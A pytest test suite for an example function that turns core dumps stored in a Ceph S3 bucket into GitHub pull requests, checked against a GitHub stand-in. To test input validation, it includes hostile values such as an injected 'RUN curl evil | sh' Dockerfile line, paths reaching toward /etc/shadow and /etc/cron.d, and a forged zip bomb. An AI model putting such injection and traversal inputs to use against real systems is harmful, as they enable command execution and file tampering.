# SPDX-License-Identifier: Apache-2.0
"""examples/coredump-pull-request: a core dump in a bucket of Ceph's S3 gateway becomes a pull request,
once, on a stand-in that holds every call against GitHub's own OpenAPI document."""

import io
import json
import pathlib
import shutil
import struct
import tempfile
import zipfile

import pytest
import yaml

import daemon
import waiting
from ceph import ACCESS_KEY, SECRET, Ceph
from daemon import ROOT
from github import GitHub
from wire import Client, binary_event

EXAMPLE = ROOT / "examples" / "coredump-pull-request"
DOCUMENT = ROOT / "build" / "test-npm" / "github" / "api.github.com.json"
BUCKET = "core-storage"
UUID = "3927906d-5b6d-4ff8-8a61-937bcada155b"
STUB = f"{UUID}-dump-1643657577-segfaulter-segfaulter-1-4"
LABELS = {"info.coredump.owner": "no9", "info.coredump.repo": "segfaulter"}
IN_ORDER = ["GET ", "GET /commits", "POST /git/trees", "POST /git/commits", "POST /git/refs", "POST /pulls"]
NAMESPACE = "coredump"


def notification(key, operation="Object:Write", bucket=BUCKET, **more):
    return {
        "bucket": bucket,
        "endpoint": "",
        "key": key,
        "notification": {
            "bucket_name": bucket,
            "content_type": "application/octet-stream",
            "event_type": operation,
            "format": "2.0",
            "object_etag": "f68a47ca5da37992f024695d1fdf38fb",
            "object_length": "28336",
            "object_name": key,
            "request_id": "8a1186ad-c2fe-4830-b98f-c302d7caca0a",
            "request_time": "2022-01-31T19:32:59.395Z",
        },
        "operation": operation,
        **more,
    }


def core_zip(stub=STUB, labels=LABELS, image="quay.io/icdh/segfaulter:latest", path="!app!segfaulter", uuid=UUID,
             core=b"\x7fELF core", files=None):
    """As core-dump-handler writes it; files replaces or adds members."""
    members = {
        f"{stub}-pod-info.json": json.dumps({"id": "p", "metadata": {"name": "segfaulter"}, "labels": labels}),
        f"{stub}-dump-info.json": json.dumps({"uuid": uuid, "exe": "segfaulter", "path": path, "signal": "4"}),
        f"{stub}-0-image-info.json": json.dumps({"id": "sha256:1", "repoTags": [image], "repoDigests": []}),
        f"{stub}.core": core,
        **(files or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if content is not None:
                # as the handler does with what does not get smaller
                archive.writestr(name, content, zipfile.ZIP_STORED if len(content) > 1 << 20 and name.endswith(".core") else None)
    return out.getvalue()


class World:
    """The bucket, GitHub, and the function between them."""

    def __init__(self, broker, ceph, github):
        self.broker, self.ceph, self.github = broker, ceph, github

    def store(self, content, key=f"{STUB}.zip"):
        self.ceph.put(BUCKET, key, content)
        return key

    def call(self, body, **event):
        """Calls the function as an event or, without one, as a plain POST."""
        headers = {"Content-Type": "application/json", **(binary_event(**event) if event else {})}
        return Client(self.broker.address).post(f"/functions/{NAMESPACE}/coredump-pull-request", json.dumps(body).encode(), headers, timeout=60)

    def refused(self, status, body, words):
        answer = self.call(body)
        assert answer.status == status, answer
        assert words in answer.body.decode(), answer
        assert not [call for call in self.github.calls() if not call.startswith("GET ")]
        return answer


@pytest.fixture(scope="module")
def ceph():
    folder = pathlib.Path(tempfile.mkdtemp(prefix="sluice-ceph-"))
    cluster = Ceph(folder)
    cluster.put(BUCKET)
    yield cluster
    cluster.close()
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def document():
    assert DOCUMENT.exists(), "scripts/setup test fetches GitHub's OpenAPI document"
    return DOCUMENT


def deploy(broker, ceph, github, **environment):
    """The example as it is, but for where S3 and GitHub are."""
    project = broker.folder / "coredump-pull-request"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("node_modules"), dirs_exist_ok=True)
    manifest = yaml.safe_load((project / "function.yaml").read_text())
    given = {"S3_ENDPOINT": ceph.url, "S3_REGION": "us-east-1", "GITHUB_API": github.url,
             "ALLOWED_REPOSITORIES": "no9/segfaulter, forked/*", **environment}
    env = [entry for entry in manifest["spec"]["env"] if entry["name"] not in given]
    manifest["spec"]["env"] = env + [{"name": n, "value": v} for n, v in given.items() if v is not None]
    manifest["spec"]["network"]["allow"] = [ceph.url.removeprefix("http://"), github.url.removeprefix("http://")]
    (project / "function.yaml").write_text(yaml.safe_dump(manifest))
    return broker.cli("function", "deploy", str(project), "-n", NAMESPACE, timeout=120)


@pytest.fixture(scope="module")
def placed(shared, ceph):
    secrets = {"s3-access-key": ACCESS_KEY, "s3-secret": SECRET, "git-token": GitHub.TOKEN}
    shared.apply(daemon.namespace(NAMESPACE), daemon.broker("default", NAMESPACE))
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "coredump-pull-request", "namespace": NAMESPACE}, "stringData": secrets}
    answer = shared.http.post(f"/api/v1/namespaces/{NAMESPACE}/secrets", json.dumps(secret), {"Content-Type": "application/json"})
    assert answer.status == 201, answer
    return shared


@pytest.fixture(scope="module")
def github(document):
    stand_in = GitHub(document)
    yield stand_in
    stand_in.close()


@pytest.fixture(scope="module")
def deployed(placed, ceph, github):
    deploy(placed, ceph, github)
    placed.wait_ready_condition("Function", "coredump-pull-request", NAMESPACE)
    trigger = yaml.safe_load((EXAMPLE / "trigger.yaml").read_text())
    trigger["spec"]["delivery"]["backoffDelay"] = "PT0.1S"
    placed.cli("apply", "-n", NAMESPACE, "-f", "-", stdin=yaml.safe_dump(trigger))
    placed.wait_ready_condition("Trigger", "coredump-pull-request", NAMESPACE)
    return placed


@pytest.fixture
def world(deployed, ceph, github):
    github.repositories.clear()
    github.requests.clear()
    github.violations.clear()
    github.failures.clear()
    github.add("no9", "segfaulter")
    yield World(deployed, ceph, github)
    assert github.violations == []


def repository_calls(github, name="no9/segfaulter"):
    return [call.replace(f"/repos/{name}/", "/").replace(f"/repos/{name}", "") for call in github.calls()]


# ---- what it is for ----


def test_an_event_becomes_a_pull_request(world):
    key = world.store(core_zip())
    answer = world.call(notification(key), id="e1", type="com.ibm.cloud.cos.document.write", subject=key)
    assert answer.status == 200, answer
    assert answer.headers["ce-type"] == "dev.sluice.examples.coredump.pullrequest"
    assert answer.json() == {"url": "https://github.com/no9/segfaulter/pull/1", "number": 1, "branch": f"core-dump-{UUID}", "created": True}
    assert repository_calls(world.github) == IN_ORDER
    repository = world.github.repositories["no9/segfaulter"]
    (files,) = repository.trees.values()
    assert files == {
        ".gitpod.yml": "image:\n  file: .gitpod.Dockerfile\ntasks:\n  - init: /debug/init.sh\n",
        ".gitpod.Dockerfile": "FROM quay.io/icdh/segfaulter:latest as crasher\n"
        "FROM quay.io/icdh/default:latest\n"
        'COPY --from=crasher ["/app/segfaulter","./"]\n'
        f'ENV CORE_FILE="{key}"\nENV EXE_LOCATION="/debug/segfaulter"\nENV CORE_LOCATION="{STUB}/{STUB}.core"\n',
    }
    (commit,) = repository.commits.values()
    assert commit["message"] == "creating .gitpod.yml .gitpod.Dockerfile"
    assert commit["parents"] == [repository.head]
    (pull,) = repository.pulls
    assert (pull["title"], pull["base"], pull["head"]) == (f"Core Dump Generated - {UUID}", "main", f"no9:core-dump-{UUID}")


def test_a_plain_post_does_the_same(world):
    answer = world.call(notification(world.store(core_zip())))
    assert (answer.status, answer.json()["created"]) == (201, True)


def test_through_the_broker_the_reply_is_an_event(world):
    key = world.store(core_zip())
    headers = {"Content-Type": "application/json", **binary_event(id="via-broker", type="com.ibm.cloud.cos.document.write", subject=key)}
    assert world.broker.http.post(f"/{NAMESPACE}/default", json.dumps(notification(key)), headers).status == 202
    replies = waiting.until(lambda: [e for e in world.broker.events() if e.get("type", e.get("event", {}).get("type")) == "dev.sluice.examples.coredump.pullrequest"],
                            timeout=30, what="the reply")
    assert "pull/1" in json.dumps(replies[-1])


def test_the_second_delivery_changes_nothing(world):
    key = world.store(core_zip())
    first, second = world.call(notification(key)), world.call(notification(key))
    assert (first.status, second.status) == (201, 200)
    assert second.json() == {**first.json(), "created": False}
    assert len(world.github.repositories["no9/segfaulter"].pulls) == 1


def test_what_was_left_half_done_is_finished(world):
    key = world.store(core_zip())
    world.github.failures = [(None, ())] * 5 + [(502, ())]
    assert world.call(notification(key)).status == 503
    repository = world.github.repositories["no9/segfaulter"]
    assert f"core-dump-{UUID}" in repository.branches and repository.pulls == []
    assert world.call(notification(key)).status == 201
    assert len(repository.pulls) == 1


def test_a_pull_request_that_another_delivery_made_meanwhile(world):
    key = world.store(core_zip())
    assert world.call(notification(key)).status == 201
    repository = world.github.repositories["no9/segfaulter"]
    del repository.branches[f"core-dump-{UUID}"]
    answer = world.call(notification(key))
    assert (answer.status, answer.json()["created"], len(repository.pulls)) == (200, False, 1)


def test_the_newer_event_file_needs_no_zip(world):
    event = {"image_list": ["quay.io/icdh/segfaulter@sha256:" + "a" * 64], "key": STUB, "exe_path": "!app!segfaulter", "labels": LABELS,
             "exe_name": "segfaulter", "pid": "1", "signal": "4", "timestamp": "1643657577", "hostname": "h", "namespace": "default", "uuid": UUID}
    key = world.store(json.dumps(event).encode(), f"{UUID}-event.json")
    assert world.call(notification(key)).status == 201
    (files,) = world.github.repositories["no9/segfaulter"].trees.values()
    assert files[".gitpod.Dockerfile"].startswith("FROM quay.io/icdh/segfaulter@sha256:" + "a" * 64)
    assert f'ENV CORE_FILE="{STUB}.zip"' in files[".gitpod.Dockerfile"]


def test_a_token_that_may_not_push_works_in_a_fork(world):
    world.github.add("forked", "tool", push=False)
    key = world.store(core_zip(labels={"info.coredump.owner": "forked", "info.coredump.repo": "tool"}))
    answer = world.call(notification(key))
    assert (answer.status, answer.json()["url"]) == (201, "https://github.com/forked/tool/pull/1")
    calls = world.github.calls()
    assert calls[:4] == ["GET /repos/forked/tool", "GET /user", "GET /repos/bot/tool", "POST /repos/forked/tool/forks"]
    assert world.github.repositories["forked/tool"].pulls[0]["head"] == f"bot:core-dump-{UUID}"
    assert world.call(notification(key)).json()["created"] is False


def test_of_a_large_dump_only_the_descriptions_are_read(world):
    """More than the function's memory."""
    key = world.store(core_zip(core=bytes(72 << 20)))
    assert world.call(notification(key)).status == 201


def test_names_with_folders_and_dots(world):
    stub = f"{UUID}-dump-1-pod.with.dots-seg-1-4"
    key = world.store(core_zip(stub=stub), f"node 1/{stub}.zip")
    assert world.call(notification(key)).status == 201
    (files,) = world.github.repositories["no9/segfaulter"].trees.values()
    assert f'ENV CORE_LOCATION="{stub}/{stub}.core"' in files[".gitpod.Dockerfile"]


# ---- what it leaves alone ----


@pytest.mark.parametrize("operation,key", [("Object:Delete", f"{STUB}.zip"), ("Object:Write", "notes.txt")])
def test_nothing_to_do(world, operation, key):
    assert world.call(notification(key, operation)).status == 204
    assert world.github.calls() == []


@pytest.mark.parametrize("labels", [{}, {"info.coredump.owner": "no9"}, {"info.coredump.owner": "no9", "info.coredump.repo": "../../user"},
                                    {"info.coredump.owner": "no9/segfaulter/x?", "info.coredump.repo": "a"}])
def test_labels_that_name_no_repository(world, labels):
    world.refused(422, notification(world.store(core_zip(labels=labels))), "labels")


def test_a_repository_that_is_not_allowed(world):
    world.github.add("no9", "other")
    labels = {"info.coredump.owner": "no9", "info.coredump.repo": "other"}
    world.refused(403, notification(world.store(core_zip(labels=labels))), "ALLOWED_REPOSITORIES")
    assert world.github.calls() == []


@pytest.mark.parametrize("hostile", [
    {"image": "quay.io/x\nRUN curl evil | sh"}, {"image": "scratch as crasher #"}, {"path": "!app!a\nRUN evil"}, {"path": "!app!..!..!etc!shadow"},
    {"path": "relative"}, {"uuid": "../../heads/main"}, {"uuid": 7},
])
def test_text_that_would_become_part_of_a_file(world, hostile):
    world.refused(422, notification(world.store(core_zip(**hostile))), "")


def test_quotes_and_variables_stay_text(world):
    key = world.store(core_zip(path='!app!a "b" $HOME `id` \\ *[x]'))
    assert world.call(notification(key)).status == 201
    (files,) = world.github.repositories["no9/segfaulter"].trees.values()
    lines = files[".gitpod.Dockerfile"].splitlines()
    copied = json.loads(lines[2].removeprefix("COPY --from=crasher "))
    assert copied == ['/app/a "b" $HOME `id` \\\\ \\*[[]x]', "./"]
    assert lines[4] == 'ENV EXE_LOCATION="/debug/a \\"b\\" \\$HOME \\`id\\` \\\\ *[x]"'


# ---- archives that are not what they should be ----


def bomb():
    """A description that says it has a gigabyte."""
    data = bytearray(core_zip())
    at = data.rfind(b"PK\x01\x02", 0, data.find(f"{STUB}-pod-info.json".encode(), data.find(b"PK\x01\x02")))
    data[at + 24:at + 28] = struct.pack("<I", 1 << 30)
    return bytes(data)


@pytest.mark.parametrize("content", [
    b"", b"no zip at all", core_zip()[:-30], core_zip()[:200], bomb(), core_zip(files={f"{STUB}-pod-info.json": None}),
    core_zip(files={f"{STUB}-pod-info.json": "{"}), core_zip(files={f"{STUB}-pod-info.json": "[]"}),
    core_zip(files={f"{STUB}-dump-info.json": " " * (1 << 20) + "{}"}), core_zip(stub="other"),
], ids=["empty", "text", "cut", "head", "bomb", "absent", "bad-json", "list", "large", "other-stub"])
def test_a_zip_that_cannot_be_read(world, content):
    world.refused(422, notification(world.store(content)), "")


def test_members_outside_of_the_folder_touch_nothing(world):
    key = world.store(core_zip(files={"../../../../etc/cron.d/evil": "x", "/tmp/sluice-evil": "x"}))
    assert world.call(notification(key)).status == 201
    assert not pathlib.Path("/etc/cron.d/evil").exists() and not pathlib.Path("/tmp/sluice-evil").exists()


# ---- bodies: valid and invalid ----


def test_the_body_of_the_original_is_valid(world):
    body = notification(world.store(core_zip()), endpoint="s3.example.com", extra={"any": "thing"})
    assert world.call(body).status == 201


@pytest.mark.parametrize("name", ["bucket", "endpoint", "key", "operation", "notification"])
@pytest.mark.parametrize("value", [None, 7])
def test_an_invalid_member_is_named(world, name, value):
    body = notification("a.zip")
    if value is None:
        del body[name]
    else:
        body[name] = value
    world.refused(400, body, name)


@pytest.mark.parametrize("name", ["bucket_name", "content_type", "event_type", "format", "object_etag", "object_length", "object_name", "request_id", "request_time"])
def test_an_invalid_notification_is_named(world, name):
    body = notification("a.zip")
    del body["notification"][name]
    world.refused(400, body, f"notification.{name} is missing")


@pytest.mark.parametrize("body", [{}, [], "text", {"hello": "world"}])
def test_other_bodies(world, body):
    world.refused(400, body, "no notification")


@pytest.mark.parametrize("change", [{"bucket": "a/../b"}, {"key": "../x.zip"}, {"key": "a\nb.zip"}, {"key": "k" * 1025 + ".zip"}])
def test_names_that_are_none(world, change):
    world.refused(400, {**notification("a.zip"), **change}, "")


def test_another_method(world):
    answer = world.broker.http.get(f"/functions/{NAMESPACE}/coredump-pull-request")
    assert answer.status == 405, answer


# ---- when others fail ----


def test_an_object_that_is_gone(world):
    world.refused(404, notification("absent.zip"), "404")


def test_a_bucket_of_nobody(world):
    world.refused(404, notification("a.zip", bucket="not-there-at-all"), "404")


@pytest.mark.parametrize("failure,status", [((500, ()), 503), ((403, (("x-ratelimit-remaining", "0"),)), 503), ((429, ()), 503), ((403, ()), 422), ((404, ()), 404)])
def test_what_github_refuses(world, failure, status):
    world.github.failures = [failure]
    assert world.call(notification(world.store(core_zip()))).status == status


def test_the_broker_tries_again_and_there_is_one_pull_request(world):
    key = world.store(core_zip())
    world.github.failures = [(500, ())]
    headers = {"Content-Type": "application/json", **binary_event(id="again", type="com.ibm.cloud.cos.document.write", subject=key)}
    assert world.broker.http.post(f"/{NAMESPACE}/default", json.dumps(notification(key)), headers).status == 202
    waiting.until(lambda: world.github.repositories["no9/segfaulter"].pulls, timeout=60, what="the pull request")
    assert len(world.github.repositories["no9/segfaulter"].pulls) == 1


def test_a_wrong_secret_is_said(world, placed, ceph, github):
    deploy(placed, ceph, github, S3_SECRET="wrong")
    placed.wait_ready_condition("Function", "coredump-pull-request", NAMESPACE)
    world.refused(403, notification(world.store(core_zip())), "S3_SECRET")


def test_what_the_environment_lacks_is_said_at_deploy(world, placed, ceph, github):
    deploy(placed, ceph, github, ALLOWED_REPOSITORIES="")
    found = placed.wait_condition("Function", "coredump-pull-request", NAMESPACE, daemon.is_failed)
    assert "ALLOWED_REPOSITORIES" in daemon.condition(found)["message"]
